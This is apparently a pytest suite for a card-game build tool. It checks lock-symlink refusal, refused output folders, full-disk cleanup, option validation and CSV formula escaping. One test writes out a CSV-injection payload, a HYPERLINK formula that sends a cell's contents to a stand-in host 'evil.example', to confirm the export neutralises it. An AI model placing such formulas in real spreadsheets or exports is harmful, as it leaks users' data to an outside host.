"""Issue 26, kinds 3 and 6: a game folder from a stranger, or a mistaken option, creates nothing
outside the project and leaves nothing behind. A shipped lock link is refused, never followed;
a refused --out makes nothing (no lock beside it); a full disk leaves the previous set and no
staging folder; every CSV pnp writes shows a formula as text; `pnp list` lists the games that
load; empty names and non-finite numbers in options are refused in one line."""

import csv
import io
import os
import resource
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from tests.conftest import ROOT, run_pnp
from tests.test_attacks import RUN, SECONDS, SECRET, edit, project, refused  # noqa: F401 (the fixture)

FILE_SIZE_LIMIT = 200_000        # bytes: above any font WeasyPrint unpacks, below the noisy cards PDF


def listing(folder: Path, leave_out: tuple = ()) -> dict:
    """Every path under `folder` with its kind and size (links as links, never followed)."""
    found = {}
    for path in sorted(folder.rglob("*")):
        relative = path.relative_to(folder)
        if relative.parts and relative.parts[0] in leave_out:
            continue
        info = path.lstat()
        found[str(relative)] = (info.st_mode >> 12, info.st_size if path.is_file() and not path.is_symlink() else 0)
    return found


def top_level(folder: Path) -> set:
    return set(os.listdir(folder))


def error_lines(output: str) -> list[str]:
    return [line for line in output.splitlines() if line.strip()]


def one_line(output: str) -> str:
    lines = error_lines(output)
    assert len(lines) == 1 and lines[0].startswith("error: "), output
    assert SECRET not in output
    return lines[0]


def run_limited(argv: list, env_extra: dict | None = None, file_size: int | None = None, seconds: float = SECONDS):
    """`pnp ARGV` (no --project added) in a subprocess, optionally with a file size limit that
    makes every write past it fail as a full disk would (SIGXFSZ ignored: the write fails
    with EFBIG). Its exit code, output and wall seconds."""
    env = {**os.environ, "PYTHONPATH": str(ROOT), **(env_extra or {})}

    def limits():
        os.setsid()
        if file_size is not None:
            signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
            resource.setrlimit(resource.RLIMIT_FSIZE, (file_size, file_size))
    start = time.monotonic()
    process = subprocess.Popen([sys.executable, "-c", RUN, *argv], env=env, stdout=subprocess.PIPE,
                               stderr=subprocess.STDOUT, preexec_fn=limits)
    try:
        output, _ = process.communicate(timeout=seconds * 3)
    except subprocess.TimeoutExpired:
        os.killpg(process.pid, signal.SIGKILL)
        output, _ = process.communicate()
    return process.returncode, output.decode("utf-8", "replace"), time.monotonic() - start


# --- locks never follow links ------------------------------------------------------------------

@pytest.mark.parametrize("target", ["absent", "a file outside"])
def test_a_shipped_lock_link_is_refused_and_its_target_never_made(project, tmp_path, target):
    aim = tmp_path / "made-by-the-lock"
    if target == "a file outside":
        aim.write_text("mine")
    (project / "output" / "verset").mkdir(parents=True)
    lock = project / "output" / "verset" / ".a4.lock"
    lock.symlink_to(aim)
    before = listing(tmp_path)
    line = one_line(refused(project, "build", "verset", "--jobs", "1"))
    assert ".a4.lock is a link" in line
    assert listing(tmp_path) == before
    assert aim.exists() == (target == "a file outside") and lock.is_symlink()
    if aim.exists():
        assert aim.read_text() == "mine"


def test_a_lock_link_beside_an_out_folder_is_refused(project, tmp_path):
    aim = tmp_path / "made-by-the-lock"
    (tmp_path / ".out.lock").symlink_to(aim)
    before = listing(tmp_path)
    assert ".out.lock is a link" in one_line(refused(project, "build", "verset", "--out", str(tmp_path / "out")))
    assert listing(tmp_path) == before and not aim.exists()


# --- a refused --out leaves nothing ---------------------------------------------------------------

def a_folder_of_other_files(tmp_path: Path) -> Path:
    folder = tmp_path / "letters"
    folder.mkdir()
    (folder / "letter.txt").write_text("dear")
    return folder


def a_file(tmp_path: Path) -> Path:
    (tmp_path / "a-file").write_text("x")
    return tmp_path / "a-file"


def below_a_file(tmp_path: Path) -> Path:
    return a_file(tmp_path) / "sub"


REFUSED_OUT = {
    "a folder of other files": (a_folder_of_other_files, "holds files pnp did not write"),
    "a path below a file": (below_a_file, "is a file, not a folder"),
    "a file": (a_file, "is a file"),
    "an empty path": (lambda tmp: "", "an empty path names no file or folder"),
    "a blank path": (lambda tmp: "  ", "an empty path names no file or folder"),
}
COMMANDS = {
    "build": ("build", "verset", "--jobs", "1"),
    "site": ("site", "--games", "verset"),
    "export": ("export", "verset", "--for", "dtc"),
}


@pytest.mark.parametrize("command", sorted(COMMANDS))
@pytest.mark.parametrize("case", sorted(REFUSED_OUT))
def test_a_refused_out_folder_leaves_nothing(project, tmp_path, case, command):
    make, words = REFUSED_OUT[case]
    out = make(tmp_path)
    before = listing(tmp_path)
    output = refused(project, *COMMANDS[command], "--out", str(out))
    lines = error_lines(output)
    assert words in output and SECRET not in output
    assert len([line for line in lines if line.startswith(("error:", "Error:"))]) == 1, output
    assert listing(tmp_path) == before


@pytest.mark.parametrize("folder", ["/", "/etc"])
def test_out_at_the_root_or_a_system_folder_leaves_nothing(project, tmp_path, folder):
    around = [Path(folder), Path(folder).parent]
    before = [top_level(path) for path in around], listing(tmp_path)
    line = one_line(refused(project, "build", "verset", "--jobs", "1", "--out", folder))
    assert "root of the file system" in line or "holds files pnp did not write" in line
    assert ([top_level(path) for path in around], listing(tmp_path)) == before


# --- a full disk -------------------------------------------------------------------------------

@pytest.fixture
def noisy_tiny(project):
    """The starter game `tiny`, whose card back carries a picture of noise: its cards PDF is far
    larger than any font WeasyPrint unpacks, so a file size limit between the two stops pnp's
    own write of the build."""
    from PIL import Image

    assert run_pnp("new", "tiny", "--project", str(project)).exit_code == 0
    Image.frombytes("RGB", (400, 400), os.urandom(400 * 400 * 3)).save(project / "layouts" / "tiny" / "noise.png")
    edit(project, "layouts/tiny/back.html", '<div class="bleed back">',
         '<div class="bleed back"><img src="layouts/tiny/noise.png" alt="" '
         'style="position: absolute; left: 30mm; top: 10mm; width: 3mm; height: 3mm">')
    return project


def snapshot(folder: Path) -> dict:
    return {path.name: path.read_bytes() for path in sorted(folder.iterdir())}


@pytest.mark.parametrize("jobs", [("--jobs", "1"), ()])
def test_a_full_disk_keeps_the_previous_set_and_leaves_no_staging(noisy_tiny, tmp_path, jobs):
    out = tmp_path / "out"
    code, output, _ = run_limited(["build", "tiny", "--jobs", "1", "--out", str(out), "--project", str(noisy_tiny)],
                                  seconds=60)
    assert code == 0, output
    previous = snapshot(out)
    assert len(previous["cards.pdf"]) > FILE_SIZE_LIMIT
    edit(noisy_tiny, "card_data/tiny/game.yaml", "title: Tiny", "title: Tiny Again")
    (tmp_path / "tmp").mkdir()
    before = listing(tmp_path, leave_out=("tmp",))
    code, output, elapsed = run_limited(["build", "tiny", *jobs, "--out", str(out), "--project", str(noisy_tiny)],
                                        {"TMPDIR": str(tmp_path / "tmp")}, file_size=FILE_SIZE_LIMIT, seconds=60)
    assert code == 2, output
    line = one_line(output)
    assert "the disk is full or a file size limit was reached while writing" in line and "cards.pdf" in line
    assert "Traceback" not in output and elapsed < 60
    assert snapshot(out) == previous
    assert listing(tmp_path, leave_out=("tmp",)) == before


def test_a_full_disk_into_a_new_folder_removes_the_folders_it_made(noisy_tiny, tmp_path):
    before = listing(tmp_path)
    code, output, _ = run_limited(["build", "tiny", "--jobs", "1", "--out", str(tmp_path / "new" / "deeper" / "out"),
                                   "--project", str(noisy_tiny)], file_size=FILE_SIZE_LIMIT, seconds=60)
    assert code == 2 and "the disk is full" in one_line(output), output
    assert listing(tmp_path) == before


def test_a_full_disk_in_a_library_temporary_file_is_one_line(project, tmp_path):
    """WeasyPrint unpacks each font into a temporary file: a disk too full for it stops the
    build in one line, not a traceback (the cache off: a page from it unpacks no font)."""
    (tmp_path / "tmp").mkdir()
    before = listing(tmp_path, leave_out=("tmp",))
    code, output, _ = run_limited(["build", "verset", "--jobs", "1", "--out", str(tmp_path / "out"),
                                   "--project", str(project)], {"TMPDIR": str(tmp_path / "tmp"), "PNP_CACHE": "off"},
                                  file_size=10_000,
                                  seconds=60)
    assert code == 2 and "Traceback" not in output, output
    assert "the disk is full or a file size limit was reached" in one_line(output)
    assert listing(tmp_path, leave_out=("tmp",)) == before


def test_a_build_leaves_nothing_in_the_temporary_folder(noisy_tiny, tmp_path):
    """WeasyPrint's font folders (/tmp/weasyprint-*) included: FontConfiguration removes one only
    when collected, which pnp's way out (os._exit) may never reach; a renderer removes its own,
    the kept ones are the supervisor's to remove (pnp/render/shared_fonts.py)."""
    temporary = tmp_path / "tmp"
    temporary.mkdir()
    code, output, _ = run_limited(["build", "tiny", "--jobs", "1", "--out", str(tmp_path / "out"),
                                   "--project", str(noisy_tiny)], {"TMPDIR": str(temporary)}, seconds=60)
    assert code == 0, output
    assert not list(temporary.iterdir())


# --- CSV files show formulas as text -----------------------------------------------------------

def test_every_cell_that_starts_a_formula_is_shown_as_text():
    from pnp.export.game import Export, manifest

    starts = ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "x\r=1+1", "x\n@SUM(A1)"]
    rows = [(start, "card", 1, "front.png", "back.png", "poker") for start in starts]
    data = manifest(Export(rows=rows)).decode()
    read = list(csv.reader(io.StringIO(data, newline="")))
    assert read[0] == ["deck", "card", "count", "front", "back", "size"]
    assert [row[0] for row in read[1:]] == ["'" + start for start in starts[:6]] + starts[6:]
    assert [row[2] for row in read[1:]] == ["1"] * len(starts)
    assert '"x\r=1+1"' in data          # quoted: a carriage return inside a cell starts no row


def test_a_deck_title_formula_is_not_a_formula_in_the_manifest(tiny, tmp_path):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
    declaration = tiny.card_data / "tiny" / "game.yaml"
    text = declaration.read_text()
    assert "    title: Cards\n" in text
    declaration.write_text(text.replace("    title: Cards\n", f"    title: '{formula}'\n", 1))
    result = run_pnp("export", "tiny", "--for", "dtc", "--out", str(tmp_path / "exported"), "--project", str(tiny.root))
    assert result.exit_code == 0, result.output
    data = (tmp_path / "exported" / "manifest.csv").read_text()
    rows = list(csv.reader(io.StringIO(data)))
    assert {row[0] for row in rows[1:]} == {"'" + formula}
    assert not any(line.startswith(("=", "+", "-", "@")) for line in data.splitlines())


# --- pnp list with one broken game ---------------------------------------------------------------

def test_list_shows_the_games_that_load_and_names_the_broken_one(project_copy):
    project = project_copy                      # every game: the others are listed beside the broken one
    (project / "card_data" / "verdun" / "game.yaml").write_text("title: [\n")
    output = refused(project, "list")
    assert "verset: Le Dernier Verset" in output and "wizard: The Last Wizard" in output
    errors = [line for line in output.splitlines() if line.startswith("error:")]
    assert len(errors) == 1 and errors[0].startswith("error: verdun: card_data/verdun/game.yaml:"), output
    assert "verdun: " not in output.replace(errors[0], "")


# --- options: empty names, numbers that are not numbers ---------------------------------------------

@pytest.mark.parametrize("games", [",", " ", "verset,,", ",verset", ""])
def test_empty_game_names_are_refused_not_taken_for_every_game(project, tmp_path, games):
    before = listing(tmp_path)
    line = one_line(refused(project, "site", "--games", games, "--out", str(tmp_path / "site")))
    assert "a name is empty" in line and "verset" in line.split("of ")[-1]
    assert listing(tmp_path) == before


def test_a_bleed_of_nan_is_refused(tmp_path):
    from PIL import Image

    faces = tmp_path / "faces"
    faces.mkdir()
    Image.new("RGB", (100, 140), "white").save(faces / "card1.png")
    before = listing(tmp_path)
    for bleed in ("nan", "-nan", "inf", "NaN"):
        code, output, elapsed = run_limited(["impose", str(faces), "--bleed", bleed])
        assert code == 2 and "Traceback" not in output and elapsed < SECONDS, output
        assert "--bleed" in output and len(error_lines(output)) <= 3, output
    assert listing(tmp_path) == before


@pytest.mark.parametrize("offset", ["nan,0", "0,inf", "-inf,1"])
def test_a_duplex_offset_that_is_not_a_number_is_refused(project, tmp_path, offset):
    before = listing(tmp_path)
    line = one_line(refused(project, "build", "verset", "--duplex-offset", offset, "--out", str(tmp_path / "out")))
    assert "--duplex-offset" in line and "expected two numbers" in line
    assert listing(tmp_path) == before
